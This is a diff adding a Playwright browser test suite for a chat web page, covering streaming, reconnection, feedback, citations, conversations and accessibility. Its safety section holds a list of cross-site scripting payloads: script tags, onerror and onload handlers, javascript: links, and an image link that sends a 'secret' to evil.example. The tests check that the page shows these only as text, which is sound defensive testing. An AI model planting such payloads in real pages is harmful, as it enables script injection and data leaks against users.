@@ -1,0 +1,567 @@
+"""The chat page in a real browser, against a server whose every step the test decides."""
+
+import re
+from typing import Any, Literal
+
+import pytest
+from axe_playwright_python.async_playwright import Axe  # type: ignore[import-untyped]
+from playwright.async_api import Browser, BrowserContext, Locator, Page, expect
+
+from tests.adapters.web.stub_server import Script, Stub
+from tests.browser.conftest import Watch
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+TALK = "conversation-of-the-test-1"
+SOURCES = [
+    {"number": 1, "title": "How to write a plugin", "snippet": "One class with hooks.", "source": "plugins/README.md"},
+    {"number": 2, "title": "Site", "snippet": "A page.", "source": "https://example.org/page"},
+]
+RICH = (
+    "## Plugins\n\nA plugin is **one class** [1] with *hooks* [1, 2], see [the site](https://example.org/a) [7].\n\n"
+    "- first\n- [x] second\n\n| hook | who wins |\n|---|---:|\n| reply | first |\n\n"
+    '```python\ndef reply(turn):\n    return "[1] <b>stays</b>"\n```\n\n> quoted\n\nThe end.'
+)
+
+
+async def say(page: Page, text: str) -> None:
+    await page.get_by_label("Message to botcore").fill(text)
+    await page.keyboard.press("Enter")
+
+
+def replies(page: Page) -> Locator:
+    return page.get_by_role("article", name="Reply from botcore")
+
+
+async def open_talk(page: Page, stub: Stub, talk: str = TALK) -> None:
+    await page.goto(f"{stub.url}#/c/{talk}")
+    await page.reload()
+
+
+# ------------------------------------------------------------------ streaming
+
+
+async def test_a_reply_grows_word_by_word_and_stays_when_it_is_committed(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("One two three four.", hold_after=2))
+    await say(page, "Count")
+    await expect(replies(page)).to_contain_text("One two")
+    await expect(replies(page)).to_have_attribute("aria-busy", "true")
+    stub.go.set()
+    await expect(replies(page)).to_contain_text("One two three four.")
+    await expect(replies(page)).to_have_attribute("aria-busy", "false")
+    await expect(page.get_by_role("article", name="You")).to_have_count(1)
+
+
+async def test_a_finished_block_is_not_drawn_again(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("First block.\n\nSecond block grows and grows.", hold_after=3))
+    await say(page, "Go")
+    first = replies(page).locator(".block").first
+    await expect(replies(page).locator(".block")).to_have_count(2)
+    await first.evaluate("element => { element.marked = true }")
+    stub.go.set()
+    await expect(replies(page)).to_contain_text("and grows.")
+    await expect(replies(page)).to_have_attribute("aria-busy", "false")
+    assert await first.evaluate("element => element.marked === true")
+
+
+async def test_markdown_is_drawn_the_same_streamed_and_loaded(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script(RICH, citations=SOURCES))
+    await say(page, "Plugins?")
+    await expect(replies(page)).to_have_attribute("aria-busy", "false")
+    streamed = await replies(page).locator(".markdown").inner_html()
+    await page.reload()
+    await expect(replies(page).locator("table")).to_be_visible()
+    assert await replies(page).locator(".markdown").inner_html() == streamed
+    await expect(replies(page).locator(".hljs-keyword").first).to_have_text("def")
+
+
+async def test_offsets_count_code_points(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("👩‍🚀 🚀🚀 done 🎉 truly."))
+    await say(page, "Rockets")
+    await expect(replies(page)).to_contain_text("👩‍🚀 🚀🚀 done 🎉 truly.")
+
+
+async def test_stop_ends_the_reply_and_keeps_what_was_said(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("Begun but never ended.", hold_after=2))
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text("Begun but")
+    await page.get_by_role("button", name="Stop the reply").click()
+    await expect(replies(page)).to_contain_text("Stopped")
+    await expect(replies(page)).to_contain_text("Begun but")
+    await expect(replies(page)).not_to_contain_text("never")
+    await expect(page.get_by_role("button", name="Send")).to_be_visible()
+
+
+async def test_escape_stops(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("Begun but never ended.", hold_after=1))
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text("Begun")
+    await page.keyboard.press("Escape")
+    await expect(replies(page)).to_contain_text("Stopped")
+
+
+async def test_a_second_message_waits_in_line(page: Page, stub: Stub) -> None:
+    stub.scripts.extend([Script("First answer.", hold_after=1), Script("Second answer.")])
+    await say(page, "one")
+    await expect(replies(page)).to_contain_text("First")
+    await say(page, "two")
+    await expect(page.get_by_text("Next in line")).to_be_visible()
+    stub.go.set()
+    await expect(replies(page).nth(1)).to_contain_text("Second answer.")
+    lines = await page.locator("article").evaluate_all(
+        "all => all.map(one => one.querySelector('.bubble, .markdown').innerText)"
+    )
+    assert lines == ["one", "First answer.", "two", "Second answer."]
+
+
+async def test_waiting_shows_the_note(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("Now.", hold_after=0, note="waiting for the engine…"))
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text("waiting for the engine…")
+    stub.go.set()
+    await expect(replies(page)).to_contain_text("Now.")
+
+
+@pytest.mark.parametrize(
+    ("outcome", "words"),
+    [("refused", "Refused"), ("failed", "This reply failed"), ("dead", "This message could not be handled")],
+)
+async def test_other_endings_are_marked_with_their_reason(page: Page, stub: Stub, outcome: str, words: str) -> None:
+    stub.scripts.append(Script("", outcome=outcome, reason="because of the test"))
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text(words)
+    await expect(replies(page)).to_contain_text("because of the test")
+
+
+# ------------------------------------------------------------------ nothing is lost
+
+
+async def test_a_reload_in_the_middle_loses_nothing(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("Half now, half later.", hold_after=2))
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text("Half now,")
+    await page.reload()
+    await expect(page.get_by_role("article", name="You")).to_contain_text("Go")
+    await expect(replies(page)).to_contain_text("Half now,")
+    stub.go.set()
+    await expect(replies(page)).to_contain_text("Half now, half later.")
+    await expect(replies(page)).to_have_count(1)
+    await expect(page.get_by_role("article", name="You")).to_have_count(1)
+
+
+async def test_a_broken_connection_is_taken_up_where_it_broke(page: Page, stub: Stub) -> None:
+    await say(page, "Warm up")
+    await expect(replies(page)).to_contain_text("Understood.")
+    stub.scripts.append(Script("Half now, half later.", hold_after=2))
+    await say(page, "Go")
+    await expect(replies(page).nth(1)).to_contain_text("Half now,")
+    stub.drop()
+    await expect(replies(page).nth(1)).to_contain_text("Half now,")
+    stub.go.set()
+    await expect(replies(page).nth(1)).to_contain_text("Half now, half later.")
+    await expect(replies(page).nth(1)).to_have_attribute("aria-busy", "false")
+    await expect(replies(page)).to_have_count(2)
+    assert int(stub.cursors[-1]) > 0
+
+
+async def test_a_lost_server_is_said_and_found_again(page: Page, stub: Stub, watch: Watch) -> None:
+    watch.expected.append("Failed to load resource")
+    stub.refuse["events"] = (503, "starting", "Try again.")
+    stub.drop()
+    await expect(page.get_by_text("Connection lost")).to_be_visible()
+    stub.refuse.clear()
+    await page.get_by_role("button", name="Try now").click()
+    await expect(page.get_by_text("Connection lost")).to_have_count(0)
+    await say(page, "Back?")
+    await expect(replies(page)).to_contain_text("Understood.")
+
+
+async def test_a_failed_send_is_kept_and_sent_again_as_the_same_message(page: Page, stub: Stub, watch: Watch) -> None:
+    watch.expected.append("Failed to load resource")
+    stub.refuse["messages"] = (503, "full", "The inbox is full.")
+    await say(page, "Precious words")
+    await expect(page.get_by_role("article", name="You")).to_contain_text("Not sent. The inbox is full.")
+    stub.refuse.clear()
+    await page.get_by_role("button", name="Retry").click()
+    await expect(replies(page)).to_contain_text("Understood.")
+    await expect(page.get_by_role("article", name="You")).to_have_count(1)
+    assert len(stub.posts) == 1
+
+
+async def test_an_answer_lost_on_the_way_back_does_not_say_it_twice(page: Page, stub: Stub, watch: Watch) -> None:
+    watch.expected.append("Failed to load resource")
+    lost: list[str] = []
+
+    async def lose_first(route: Any) -> None:
+        if lost:
+            await route.continue_()
+            return
+        lost.append((await route.fetch()).url)
+        await route.abort()
+
+    stub.scripts.append(Script("Once.", hold_after=0))
+    await page.route("**/messages", lose_first)
+    await say(page, "Say once")
+    await expect(page.get_by_role("article", name="You")).to_have_count(1)
+    stub.drop()  # the reconnect sends what is unconfirmed again
+    stub.go.set()
+    await expect(replies(page)).to_contain_text("Once.")
+    await expect(page.locator(".unsent")).to_have_count(0)
+    await expect(page.get_by_role("article", name="You")).to_have_count(1)
+    assert len({post["id"] for post in stub.posts}) == 1
+
+
+async def test_what_was_being_typed_survives_a_reload(page: Page, stub: Stub) -> None:
+    stub.put(TALK, "user", "Hello", message="m")
+    await open_talk(page, stub)
+    await page.get_by_label("Message to botcore").fill("half a thou")
+    await page.reload()
+    await expect(page.get_by_label("Message to botcore")).to_have_value("half a thou")
+
+
+# ------------------------------------------------------------------ safety
+
+HOSTILE = (
+    "<script>window.hit = 1</script>\n\n<img src='https://evil.example/a' onerror='window.hit = 2'>\n\n"
+    "![leak](https://evil.example/b.png?secret)\n\n[run](javascript:window.hit=3) [data](data:text/html,x) "
+    "[vb](vbscript:x) [rel](//evil.example/c) [fine](https://good.example/d)\n\n"
+    "<iframe src=https://evil.example></iframe><form action=https://evil.example><input name=a></form>"
+    "<style>body{display:none}</style><svg onload=window.hit=4><a href=javascript:1>x</a></svg>\n\n"
+    '[img](https://good.example/"onmouseover="window.hit=5)\n\n'
+    "```html\n<script>window.hit = 6</script>\n```\n\n`<img src=x onerror=window.hit=7>`\n\n"
+    '```"><img src=x onerror=window.hit=8>\ncode\n```'
+)
+
+
+async def test_a_hostile_reply_is_only_text(page: Page, stub: Stub) -> None:
+    stub.put(TALK, "user", "<img src=x onerror='window.hit = 9'>", message="m")
+    title, source = "<img src=x onerror=window.hit=10>", "javascript:window.hit=11"
+    citation = {"number": 1, "title": title, "snippet": "<script>1</script>", "source": source}
+    stub.put(TALK, "assistant", HOSTILE + "\n\nAs told [1].", citations=[citation])
+    await open_talk(page, stub)
+    await expect(replies(page)).to_contain_text("window.hit = 1")
+    await page.locator(".cite").click()
+    await expect(page.get_by_role("dialog", name="Source 1")).to_contain_text("<script>1</script>")
+    body = page.locator("main")
+    assert (
+        await body.locator(
+            "script, img, iframe, form:not(.composer), style, object, embed, .markdown input, [style*=url]"
+        ).count()
+        == 0
+    )
+    found = await page.locator("main a, .card a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
+    assert all(re.match(r"https://(good|evil)\.example/", href) for href in found), found
+    assert [href for href in found if "good" in href]
+    handlers = "all => all.flatMap(one => one.getAttributeNames()).filter(name => name.startsWith('on'))"
+    assert await page.locator("main *").evaluate_all(handlers) == []
+    assert await page.evaluate("window.hit") is None
+
+
+async def test_a_link_leaves_without_a_trace_and_names_its_host(page: Page, stub: Stub) -> None:
+    stub.put(TALK, "assistant", "See [the page](https://example.org/a).")
+    await open_talk(page, stub)
+    link = replies(page).get_by_role("link")
+    await expect(link).to_have_attribute("rel", re.compile("noopener"))
+    await expect(link).to_have_attribute("target", "_blank")
+    await expect(link).to_contain_text("example.org")
+
+
+async def test_a_locked_bot_asks_for_its_key(context: BrowserContext, stub: Stub, watch: Watch) -> None:
+    watch.expected.append("Failed to load resource")
+    stub.key = "open-sesame"
+    page = await context.new_page()
+    watch.on(page)
+    await page.goto(stub.url)
+    await page.get_by_label("Access key").fill("wrong")
+    await page.get_by_role("button", name="Enter").click()
+    await expect(page.get_by_role("alert")).to_have_text("That is not the key.")
+    await page.get_by_label("Access key").fill("open-sesame")
+    await page.keyboard.press("Enter")
+    await say(page, "Hello")
+    await expect(replies(page)).to_contain_text("Understood.")
+
+
+# ------------------------------------------------------------------ feedback and sources
+
+
+async def test_a_thumb_is_stored_and_can_be_taken_back(page: Page, stub: Stub) -> None:
+    await say(page, "Hello")
+    up = page.get_by_role("button", name="Good reply")
+    await up.click()
+    await expect(up).to_have_attribute("aria-pressed", "true")
+    await page.reload()
+    await expect(up).to_have_attribute("aria-pressed", "true")
+    await up.click()
+    await expect(up).to_have_attribute("aria-pressed", "false")
+    assert [one["value"] for one in stub.feedback] == [1, 0]
+    assert stub.feedback[0]["reply"].startswith("reply-")
+
+
+async def test_a_thumb_down_asks_why_and_works_by_keyboard(page: Page, stub: Stub) -> None:
+    await say(page, "Hello")
+    down = page.get_by_role("button", name="Bad reply")
+    await down.focus()
+    await page.keyboard.press("Enter")
+    await expect(down).to_have_attribute("aria-pressed", "true")
+    chip = page.get_by_role("button", name="Incomplete")
+    await chip.focus()
+    await page.keyboard.press("Space")
+    await expect(chip).to_have_attribute("aria-pressed", "true")
+    await page.get_by_label("What would have been right?").fill("More words.")
+    await page.locator(".why").get_by_role("button", name="Send").press("Enter")
+    await expect(page.locator(".why")).to_have_count(0)
+    await expect(down).to_be_focused()
+    last = stub.feedback[-1]
+    assert (last["value"], last["reasons"], last["comment"]) == (-1, ["incomplete"], "More words.")
+
+
+async def test_a_refused_thumb_is_undone_and_said(page: Page, stub: Stub, watch: Watch) -> None:
+    watch.expected.append("Failed to load resource")
+    await say(page, "Hello")
+    await expect(replies(page)).to_have_attribute("aria-busy", "false")
+    stub.refuse["feedback"] = (503, "full", "The store is busy.")
+    await page.get_by_role("button", name="Good reply").click()
+    await expect(page.get_by_text("Your rating was not stored: The store is busy.")).to_be_visible()
+    await expect(page.get_by_role("button", name="Good reply")).to_have_attribute("aria-pressed", "false")
+
+
+async def test_citations_show_their_source_and_unknown_numbers_stay_text(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script(RICH, citations=SOURCES))
+    await say(page, "Plugins?")
+    marks = page.get_by_role("button", name="Source 1: How to write a plugin")
+    await expect(marks).to_have_count(2)
+    await expect(replies(page)).to_contain_text("[7]")
+    await expect(replies(page).locator("pre")).to_contain_text('"[1] <b>stays</b>"')
+    await marks.first.press("Enter")
+    card = page.get_by_role("dialog", name="Source 1")
+    await expect(card).to_contain_text("One class with hooks.")
+    await expect(card).to_contain_text("plugins/README.md")
+    await expect(card).to_be_focused()
+    await page.keyboard.press("Escape")
+    await expect(card).to_have_count(0)
+    await expect(marks.first).to_be_focused()
+    sources = page.get_by_role("region", name="Sources")
+    await sources.get_by_text("Site").click()
+    await expect(sources.get_by_role("link")).to_have_attribute("href", "https://example.org/page")
+
+
+async def test_copy_gives_the_source_of_the_reply_and_of_the_code(
+    page: Page, stub: Stub, context: BrowserContext
+) -> None:
+    await context.grant_permissions(["clipboard-read", "clipboard-write"])
+    stub.put(TALK, "assistant", RICH)
+    await open_talk(page, stub)
+    await page.get_by_role("button", name="Copy the python block").click()
+    await expect(page.get_by_role("button", name="Copy the python block")).to_have_text("Copied")
+    assert await page.evaluate("navigator.clipboard.readText()") == 'def reply(turn):\n    return "[1] <b>stays</b>"'
+    await page.get_by_role("button", name="Copy reply").click()
+    await expect(page.get_by_role("button", name="Copied")).to_be_visible()
+    assert await page.evaluate("navigator.clipboard.readText()") == RICH
+
+
+# ------------------------------------------------------------------ conversations
+
+
+async def test_conversations_are_listed_searched_and_opened(page: Page, stub: Stub) -> None:
+    stub.put("talk-of-apples-00000001", "user", "About apples", ago=60)
+    stub.put("talk-of-pears-000000002", "user", "About pears", ago=200_000)
+    await page.reload()
+    nav = page.get_by_role("navigation", name="Conversations")
+    await expect(nav.get_by_role("link")).to_have_text(["About apples", "About pears"])
+    await page.get_by_label("Search conversations").fill("PEAR")
+    await expect(nav.get_by_role("link")).to_have_text(["About pears"])
+    await nav.get_by_role("link").click()
+    await expect(page.get_by_role("article", name="You")).to_contain_text("About pears")
+    await expect(page).to_have_title("About pears · botcore")
+    await page.go_back()
+    await expect(page.get_by_role("heading", name="botcore")).to_be_visible()
+
+
+async def test_a_deleted_conversation_can_be_brought_back(page: Page, stub: Stub) -> None:
+    stub.put(TALK, "user", "Keep me", message="m")
+    await open_talk(page, stub)
+    await page.get_by_role("button", name="Delete “Keep me”").press("Enter")
+    await expect(page.get_by_role("link", name="Keep me")).to_have_count(0)
+    await page.get_by_role("button", name="Undo").click()
+    await expect(page.get_by_role("link", name="Keep me")).to_be_visible()
+    await expect(page.get_by_role("article", name="You")).to_contain_text("Keep me")
+    assert stub.deleted == []
+
+
+async def test_a_deletion_happens_when_the_page_closes(page: Page, stub: Stub) -> None:
+    stub.put(TALK, "user", "Away", message="m")
+    await open_talk(page, stub)
+    await page.get_by_role("button", name="Delete “Away”").press("Enter")
+    await expect(page.get_by_role("link", name="Away")).to_have_count(0)
+    await page.reload()
+    await expect(page.get_by_role("heading", name="botcore")).to_be_visible()
+    assert stub.deleted == [TALK]
+
+
+# ------------------------------------------------------------------ engine
+
+
+async def test_the_engine_s_way_is_shown_until_it_is_ready(page: Page, stub: Stub) -> None:
+    stub.set_engine(stage="model", progress=0.25, detail="1 of 4 GiB")
+    await expect(page.get_by_role("progressbar")).to_have_attribute("value", "0.25")
+    await expect(page.locator("main")).to_contain_text("Fetching model")
+    await expect(page.locator("main")).to_contain_text("1 of 4 GiB")
+    stub.set_engine(stage="ready", progress=None, detail="")
+    await expect(page.get_by_role("progressbar")).to_have_count(0)
+    await page.get_by_role("button", name="Ready").click()
+    await expect(page.locator(".panel")).to_contain_text("2,048 tokens")
+
+
+async def test_a_failed_engine_says_why_in_its_own_words(page: Page, stub: Stub) -> None:
+    stub.set_engine(stage="failed", detail="vllm is not installed; run: botcore engine install")
+    await expect(page.locator(".welcome")).to_contain_text("vllm is not installed; run: botcore engine install")
+
+
+async def test_a_sample_question_is_asked_by_one_press(page: Page, stub: Stub) -> None:
+    await page.get_by_role("button", name="How do I write a plugin?").click()
+    await expect(replies(page)).to_contain_text("Understood.")
+    assert stub.posts[0]["text"] == "How do I write a plugin?"
+
+
+# ------------------------------------------------------------------ keyboard
+
+
+async def test_keys(page: Page, stub: Stub) -> None:
+    field = page.get_by_label("Message to botcore")
+    await expect(field).to_be_focused()
+    await page.keyboard.type("one")
+    await page.keyboard.press("Shift+Enter")
+    await page.keyboard.type("two")
+    await page.keyboard.press("Enter")
+    await expect(replies(page)).to_contain_text("Understood.")
+    assert stub.posts[0]["text"] == "one\ntwo"
+    await page.get_by_role("log").focus()
+    await page.keyboard.press("/")
+    await expect(field).to_be_focused()
+    await expect(field).to_have_value("")
+    await page.get_by_role("log").focus()
+    await page.keyboard.press("?")
+    await expect(page.get_by_role("dialog", name="Help")).to_be_visible()
+    await page.keyboard.press("Escape")
+    await expect(page.get_by_role("dialog", name="Help")).to_be_hidden()
+    await page.keyboard.press("Alt+n")
+    await expect(replies(page)).to_have_count(0)
+    await expect(page.get_by_role("heading", name="botcore")).to_be_visible()
+
+
+async def test_a_slash_offers_the_commands(page: Page) -> None:
+    field = page.get_by_label("Message to botcore")
+    await field.fill("/h")
+    options = page.get_by_role("option")
+    await expect(options).to_have_count(2)
+    await page.keyboard.press("ArrowDown")
+    await expect(options.nth(1)).to_have_attribute("aria-selected", "true")
+    assert await field.get_attribute("aria-activedescendant") == await options.nth(1).get_attribute("id")
+    await page.keyboard.press("Tab")
+    await expect(field).to_have_value("/history ")
+    await expect(options).to_have_count(0)
+    await expect(field).to_be_focused()
+
+
+async def test_a_finished_reply_is_announced_once_not_token_by_token(page: Page, stub: Stub) -> None:
+    stub.scripts.append(Script("Spoken words, *all* of them.", hold_after=2))
+    voice = page.locator("[aria-live=polite]")
+    await say(page, "Go")
+    await expect(replies(page)).to_contain_text("Spoken words,")
+    await expect(voice).to_have_text("")
+    await expect(page.get_by_role("log")).to_have_attribute("aria-live", "off")
+    stub.go.set()
+    await expect(voice).to_have_text("botcore replied: Spoken words, all of them.")
+
+
+async def test_the_skip_link_leads_to_the_message_field(page: Page) -> None:
+    await page.get_by_role("link", name="Skip to the message field").press("Enter")
+    await expect(page.get_by_label("Message to botcore")).to_be_focused()
+
+
+async def test_the_theme_follows_the_system_until_one_is_chosen(page: Page) -> None:
+    background = "getComputedStyle(document.documentElement).backgroundColor"
+    light = await page.evaluate(background)
+    await page.emulate_media(color_scheme="dark")
+    dark = await page.evaluate(background)
+    assert light != dark
+    await page.get_by_role("button", name="Theme: system").click()
+    assert await page.evaluate(background) == light
+    await page.reload()
+    assert await page.evaluate(background) == light
+
+
+# ------------------------------------------------------------------ everybody
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 360])
+async def test_axe_finds_nothing(
+    chromium: Browser, stub: Stub, watch: Watch, scheme: Literal["light", "dark"], width: int
+) -> None:
+    stub.put(TALK, "user", "Plugins?", message="m")
+    stub.put(TALK, "assistant", RICH, citations=SOURCES)
+    stub.put(TALK, "assistant", "", outcome="failed", reason="The engine went away.")
+    stub.put(TALK, "assistant", "Part", outcome="refused", reason="Too many messages.")
+    context = await chromium.new_context(
+        viewport={"width": width, "height": 740}, color_scheme=scheme, reduced_motion="reduce"
+    )
+    page = await context.new_page()
+    watch.on(page)
+    found: dict[str, list[str]] = {}
+
+    async def look(where: str) -> None:
+        report = await Axe().run(page)
+        serious = [one for one in report.response["violations"] if one["impact"] in ("moderate", "serious", "critical")]
+        for one in serious:
+            found.setdefault(where, []).append(f"{one['id']}: {[node['html'][:160] for node in one['nodes'][:3]]}")
+
+    stub.engine |= {"stage": "warmup", "progress": 0.4, "detail": "Loading weights"}
+    await page.goto(stub.url)
+    await page.get_by_role("progressbar").wait_for()
+    await look("welcome")
+    await open_talk(page, stub)
+    await page.locator(".cite").first.wait_for()
+    await page.get_by_role("button", name="Bad reply").first.click()
+    await page.locator(".why").wait_for()
+    await look("conversation")
+    await page.locator(".cite").first.click()
+    await page.get_by_role("dialog", name="Source 1").wait_for()
+    await look("source card")
+    await page.keyboard.press("Escape")
+    stub.scripts.append(Script("Some words.", hold_after=1))
+    await page.get_by_label("Message to botcore").fill("Go on")
+    await page.get_by_role("button", name="Send").last.click()
+    await expect(replies(page).last).to_contain_text("Some")
+    await page.get_by_label("Message to botcore").fill("/")
+    await page.get_by_role("listbox").wait_for()
+    await look("streaming, with commands")
+    await page.get_by_label("Message to botcore").fill("")
+    if width < 960:
+        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "scrolls sideways"
+        await page.get_by_role("button", name="Show conversations").click()
+        await look("conversations over the chat")
+    else:
+        await page.get_by_role("button", name="Help").click()
+        await look("help")
+    await context.close()
+    assert found == {}
+
+
+async def test_on_a_phone_the_list_covers_the_chat_and_gives_way(chromium: Browser, stub: Stub, watch: Watch) -> None:
+    stub.put(TALK, "user", "Over here", message="m")
+    context = await chromium.new_context(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True)
+    page = await context.new_page()
+    watch.on(page)
+    await page.goto(stub.url)
+    await page.get_by_role("button", name="Show conversations").click()
+    assert await page.locator("main").evaluate("main => main.inert")
+    await page.get_by_role("link", name="Over here").tap()
+    await expect(page.get_by_role("article", name="You")).to_contain_text("Over here")
+    assert not await page.locator("main").evaluate("main => main.inert")
+    await page.get_by_label("Message to botcore").fill("by finger")
+    await page.keyboard.press("Enter")
+    await page.get_by_role("button", name="Send").tap()
+    await expect(replies(page)).to_contain_text("Understood.")
+    assert stub.posts[-1]["text"] == "by finger"
+    await context.close()
